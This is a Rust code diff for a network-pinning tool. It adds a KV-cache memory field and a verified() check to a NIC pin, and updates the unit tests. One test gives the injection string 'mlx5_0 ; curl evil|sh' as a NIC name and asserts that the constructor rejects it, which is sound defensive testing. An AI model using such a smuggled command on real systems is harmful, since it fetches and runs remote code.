@@ -9,6 +9,7 @@
 
 use std::fmt;
 
+use railguard_schema::KvMemory;
 use serde::Serialize;
 
 /// What the pinned NIC's good verdicts were proven in.
@@ -52,25 +53,45 @@ impl PinEvidence {
 pub struct Pin {
     nic: String,
     pub evidence: PinEvidence,
+    /// The memory the GPU's KV cache moves in: what "verified" must mean for it.
+    kv: KvMemory,
 }
 
 impl Pin {
     /// The pin to `nic`, if `nic` is a device name and one of `node_nics` (the node's latest
     /// topology's NICs).
-    pub fn new(nic: &str, evidence: PinEvidence, node_nics: &[String]) -> Option<Pin> {
-        (railguard_schema::convert::is_device_name(nic) && node_nics.iter().any(|n| n == nic))
-            .then(|| Pin { nic: nic.to_owned(), evidence })
+    pub fn new(nic: &str, evidence: PinEvidence, kv: KvMemory, node_nics: &[String]) -> Option<Pin> {
+        (railguard_schema::convert::is_device_name(nic) && node_nics.iter().any(|n| n == nic)).then(|| Pin {
+            nic: nic.to_owned(),
+            evidence,
+            kv,
+        })
     }
 
     pub fn nic(&self) -> &str {
         &self.nic
+    }
+
+    /// The pinned NIC was verified on hardware in the memory the GPU's KV cache moves in (GPU
+    /// memory, or host memory on a node without a GPUDirect path). A pin verified on the
+    /// simulated fabric, in host memory only for a GPU-memory workload, or not at all, is not.
+    pub fn verified(&self) -> bool {
+        match self.evidence {
+            PinEvidence::GpuMemory => true,
+            PinEvidence::HostMemory => self.kv == KvMemory::Host,
+            PinEvidence::Simulated | PinEvidence::Unprobed => false,
+        }
     }
 }
 
 impl fmt::Display for Pin {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         write!(f, "UCX_NET_DEVICES={}:1", self.nic)?;
-        if let Some(q) = self.evidence.qualifier() {
+        let q = match self.evidence {
+            PinEvidence::HostMemory if self.kv == KvMemory::Host => None,
+            e => e.qualifier(),
+        };
+        if let Some(q) = q {
             write!(f, " ({q})")?;
         }
         Ok(())
@@ -90,16 +111,25 @@ mod tests {
     #[test]
     fn a_pin_is_only_ever_one_of_the_node_s_own_nics() {
         let nics = vec!["mlx5_0".to_owned(), "mlx5_1".to_owned()];
-        let p = Pin::new("mlx5_1", PinEvidence::GpuMemory, &nics).unwrap();
+        let gpu = KvMemory::Gpu;
+        let p = Pin::new("mlx5_1", PinEvidence::GpuMemory, gpu, &nics).unwrap();
         assert_eq!(p.to_string(), "UCX_NET_DEVICES=mlx5_1:1");
-        assert_eq!(
-            Pin::new("mlx5_0", PinEvidence::Unprobed, &nics).unwrap().to_string(),
-            "UCX_NET_DEVICES=mlx5_0:1 (not yet verified by a probe)"
-        );
+        assert!(p.verified());
+        let unprobed = Pin::new("mlx5_0", PinEvidence::Unprobed, gpu, &nics).unwrap();
+        assert_eq!(unprobed.to_string(), "UCX_NET_DEVICES=mlx5_0:1 (not yet verified by a probe)");
+        assert!(!unprobed.verified());
+        // Host memory verifies a pin only where host memory is the KV cache's path.
+        let host_only = Pin::new("mlx5_0", PinEvidence::HostMemory, gpu, &nics).unwrap();
+        assert!(!host_only.verified());
+        assert!(host_only.to_string().contains("its GPU-memory path is unproven"), "{host_only}");
+        let host_node = Pin::new("mlx5_0", PinEvidence::HostMemory, KvMemory::Host, &nics).unwrap();
+        assert!(host_node.verified());
+        assert_eq!(host_node.to_string(), "UCX_NET_DEVICES=mlx5_0:1");
+        assert!(!Pin::new("mlx5_0", PinEvidence::Simulated, gpu, &nics).unwrap().verified(), "no hardware");
         // Not the node's, or not a device name at all (even if the topology said so).
-        assert!(Pin::new("mlx5_7", PinEvidence::GpuMemory, &nics).is_none());
+        assert!(Pin::new("mlx5_7", PinEvidence::GpuMemory, gpu, &nics).is_none());
         let odd = vec!["mlx5_0 ; curl evil|sh".to_owned()];
-        assert!(Pin::new("mlx5_0 ; curl evil|sh", PinEvidence::GpuMemory, &odd).is_none());
-        assert!(Pin::new("", PinEvidence::GpuMemory, &[String::new()]).is_none());
+        assert!(Pin::new("mlx5_0 ; curl evil|sh", PinEvidence::GpuMemory, gpu, &odd).is_none());
+        assert!(Pin::new("", PinEvidence::GpuMemory, gpu, &[String::new()]).is_none());
     }
 }
